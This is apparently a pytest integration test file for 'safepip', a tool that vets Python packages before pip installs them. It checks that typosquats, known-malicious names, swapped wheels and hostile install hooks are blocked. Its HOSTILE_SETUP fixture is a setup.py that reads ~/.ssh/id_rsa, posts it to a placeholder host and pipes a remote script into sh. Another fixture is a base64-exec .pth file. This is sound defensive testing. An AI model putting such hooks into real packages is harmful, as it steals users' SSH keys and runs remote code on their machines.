"""`safepip install` end to end: real resolver, real checks, real pip, loopback index only."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest

from tests.integration.conftest import VenvFactory, installed_in
from tests.kit.archives import make_sdist, make_wheel
from tests.kit.index_server import IndexServer

pytestmark = pytest.mark.integration
Factory = Callable[..., IndexServer]

HOSTILE_SETUP = """
import os, pathlib, subprocess, urllib.request
pathlib.Path({canary!r}).write_text("setup.py ran")
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("https://hooks.example.invalid/x", data=key.encode())
subprocess.run(["sh", "-c", "curl https://evil.example.invalid/p | sh"])
from setuptools import setup
setup(name="helpful-tool", version="1.0")
"""


def _safepip(
    args: Sequence[str], env: dict[str, str], cwd: Path, stdin: str = ""
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "safepip", *args], env=env, cwd=cwd, input=stdin,
        capture_output=True, text=True, timeout=300,
    )


def _install(
    venv: Path, server: IndexServer, env: dict[str, str], cwd: Path, *specs: str
) -> subprocess.CompletedProcess[str]:
    return _safepip(["install", "--python", str(venv / "bin" / "python"),
                     "--index-url", server.index_url, *specs], env, cwd)


def test_benign_tree_installs_exactly_the_plan(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    dist = tmp_path / "dist"
    server = index_server([
        make_wheel(dist, "orchard", "1.0", requires_dist=["apple-core>=2", "pear-lib"]),
        make_wheel(dist, "apple-core", "1.0"), make_wheel(dist, "apple-core", "2.1"),
        make_wheel(dist, "pear-lib", "0.3"), make_wheel(dist, "unrelated", "9.0"),
    ])
    venv = make_venv(tmp_path / "venv")
    result = _install(venv, server, pip_env, tmp_path, "orchard")
    assert result.returncode == 0, result.stdout + result.stderr
    assert installed_in(venv, pip_env) == {"orchard": "1.0", "apple-core": "2.1", "pear-lib": "0.3"}
    # pip never talked to the index: every request came from safepip's own session.
    agents = {r.headers.get("User-Agent", "") for r in server.requests}
    assert agents and all(a.startswith("safepip/") for a in agents)


def test_dry_run_vets_and_installs_nothing(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    server = index_server([make_wheel(tmp_path / "dist", "orchard", "1.0")])
    venv = make_venv(tmp_path / "venv")
    result = _install(venv, server, pip_env, tmp_path, "--dry-run", "orchard")
    assert result.returncode == 0, result.stderr
    assert "orchard" in result.stdout and "verdict: allow" in result.stdout
    assert installed_in(venv, pip_env) == {}


def test_known_malicious_name_is_blocked_before_any_request(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    # `aaiohttp` is an OSV MAL- record affecting every version (embedded snapshot).
    server = index_server([make_wheel(tmp_path / "dist", "aaiohttp", "3.8.0")])
    venv = make_venv(tmp_path / "venv")
    result = _install(venv, server, pip_env, tmp_path, "aaiohttp")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "name/known-malicious" in result.stdout and "MAL-2023-1574" in result.stdout
    assert server.requests == []
    assert installed_in(venv, pip_env) == {}


def test_typosquat_is_blocked(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    server = index_server([make_wheel(tmp_path / "dist", "reqeusts", "2.31.0")])
    venv = make_venv(tmp_path / "venv")
    result = _install(venv, server, pip_env, tmp_path, "reqeusts")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "name/typosquat" in result.stdout and "requests" in result.stdout
    assert installed_in(venv, pip_env) == {}


def test_hostile_setup_py_is_blocked_and_never_runs(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    canary = tmp_path / "CANARY"
    dist = tmp_path / "dist"
    server = index_server([
        make_sdist(dist, "helpful-tool", "1.0",
                   setup_py=HOSTILE_SETUP.format(canary=str(canary))),
        make_wheel(dist, "setuptools", "70.0"),
    ])
    venv = make_venv(tmp_path / "venv")
    result = _install(venv, server, pip_env, tmp_path, "helpful-tool")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "hook/" in result.stdout
    assert not canary.exists()
    assert installed_in(venv, pip_env) == {}


def test_wheel_with_executable_pth_is_blocked(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    canary = tmp_path / "PTH-CANARY"
    payload = base64.b64encode(
        f"import pathlib; pathlib.Path({str(canary)!r}).write_text('pth ran')".encode()
    ).decode()
    pth = f"import base64; exec(base64.b64decode('{payload}'))\n"
    server = index_server([make_wheel(tmp_path / "dist", "speedup-paths", "1.0", files={
        "speedup_paths/__init__.py": "", "speedup_paths.pth": pth,
    })])
    venv = make_venv(tmp_path / "venv")
    result = _install(venv, server, pip_env, tmp_path, "speedup-paths")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "hook/pth-exec" in result.stdout
    assert not canary.exists()
    assert installed_in(venv, pip_env) == {}


def test_bytes_swapped_after_vetting_never_install(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    """The index changes the file after a dry run vetted it: the install fails, closed."""
    wheel = make_wheel(tmp_path / "dist", "orchard", "1.0")
    server = index_server([wheel])
    venv = make_venv(tmp_path / "venv")
    assert _install(venv, server, pip_env, tmp_path, "--dry-run", "orchard").returncode == 0
    evil = make_wheel(tmp_path / "evil", "orchard", "1.0", files={
        "orchard/__init__.py": "import os\nos.system('echo pwned')\n"})
    server.replace_file(wheel.name, evil.read_bytes())
    result = _install(venv, server, pip_env, tmp_path, "--no-cache-dir", "orchard")
    assert result.returncode == 3, result.stdout + result.stderr
    assert "sha256" in result.stderr
    assert installed_in(venv, pip_env) == {}


def test_warnings_proceed_without_a_terminal_and_block_at_a_lower_fail_level(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    setup_py = (
        "from setuptools import setup\nsetup(install_requires=open('r.txt').read().split())\n"
    )
    dist = tmp_path / "dist"
    server = index_server([
        make_sdist(dist, "opaque-deps", "1.0", setup_py=setup_py,
                   files={"r.txt": "", "opaque_deps/__init__.py": ""}),
        make_wheel(dist, "setuptools", "70.0"),
    ])
    venv = make_venv(tmp_path / "venv")
    blocked = _install(venv, server, pip_env, tmp_path, "--fail-on", "medium", "opaque-deps")
    assert blocked.returncode == 1, blocked.stdout + blocked.stderr
    assert "resolve/dynamic-metadata" in blocked.stdout
    assert installed_in(venv, pip_env) == {}


def test_ignore_needs_a_reason_and_then_applies(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    server = index_server([make_wheel(tmp_path / "dist", "reqeusts", "2.31.0")])
    venv = make_venv(tmp_path / "venv")
    project = tmp_path / "project"
    project.mkdir()
    entry = '[[tool.safepip.ignore]]\nrule = "name/typosquat"\npackage = "reqeusts"\n'
    (project / "pyproject.toml").write_text(entry)
    no_reason = _install(venv, server, pip_env, project, "reqeusts")
    assert no_reason.returncode == 2, no_reason.stdout + no_reason.stderr
    assert "reason" in no_reason.stderr
    (project / "pyproject.toml").write_text(entry + 'reason = "our internal fork"\n')
    allowed = _install(venv, server, pip_env, project, "reqeusts")
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    assert installed_in(venv, pip_env) == {"reqeusts": "2.31.0"}


def test_audit_json_lists_the_plan(
    tmp_path: Path, index_server: Factory, pip_env: dict[str, str]
) -> None:
    dist = tmp_path / "dist"
    server = index_server([make_wheel(dist, "orchard", "1.0", requires_dist=["pear-lib"]),
                           make_wheel(dist, "pear-lib", "0.3")])
    (tmp_path / "requirements.txt").write_text("orchard\n")
    result = _safepip(["audit", "-r", "requirements.txt", "--index-url", server.index_url,
                       "--format", "json"], pip_env, tmp_path)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["verdict"] == "allow"
    assert {(p["name"], p["version"]) for p in report["packages"]} == {
        ("orchard", "1.0"), ("pear-lib", "0.3")}
    assert os.path.basename(report["packages"][0]["artifact"]["filename"]).endswith(".whl")


def test_a_name_missing_from_the_index_suggests_the_popular_one(
    tmp_path: Path, index_server: Factory, make_venv: VenvFactory, pip_env: dict[str, str]
) -> None:
    server = index_server([make_wheel(tmp_path / "dist", "requests", "2.31.0")])
    venv = make_venv(tmp_path / "venv")
    result = _install(venv, server, pip_env, tmp_path, "--dry-run", "requestz")
    assert result.returncode == 3, result.stdout + result.stderr
    assert "requestz" in result.stderr and "Did you mean requests" in result.stderr
